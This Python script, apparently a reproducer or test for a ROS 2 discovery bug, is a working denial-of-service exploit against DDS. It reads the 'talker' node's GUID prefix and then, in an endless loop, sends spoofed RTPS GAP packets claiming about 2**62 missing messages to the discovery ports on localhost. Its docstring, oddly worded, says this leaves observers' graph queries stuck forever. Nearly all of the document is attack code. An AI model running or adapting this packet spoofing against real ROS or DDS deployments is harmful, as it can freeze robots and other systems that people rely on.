"""Sends the readers of discovery a GAP of its own node that names 2**62 messages, at each of which they look.

The observer then never comes back from the library that it asks about the graph.

Must: stuck.
"""

import os
import socket
import struct
import time

import rclpy

rclpy.init()
node = rclpy.create_node("talker")
ends = []
while not ends:
    ends = node.get_publishers_info_by_topic("/parameter_events")
prefix = bytes(next(end for end in ends if end.node_name == "talker").endpoint_gid)[:12]
out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
domain = int(os.environ["ROS_DOMAIN_ID"])
while True:
    for entity in (3, 4):  # of publications, of subscriptions
        gap = bytes([0, 0, entity, 0xC7, 0, 0, entity, 0xC2])
        gap += struct.pack("<iIiII", 0, 1, 1 << 30, 0, 0)
        packet = b"RTPS" + bytes([2, 3, 1, 15]) + prefix + struct.pack("<BBH", 8, 1, len(gap)) + gap
        for port in range(7528 + 250 * domain, 7528 + 250 * domain + 16):
            out.sendto(packet, ("127.0.0.1", port))
    rclpy.spin_once(node, timeout_sec=0.1)
    time.sleep(0.1)
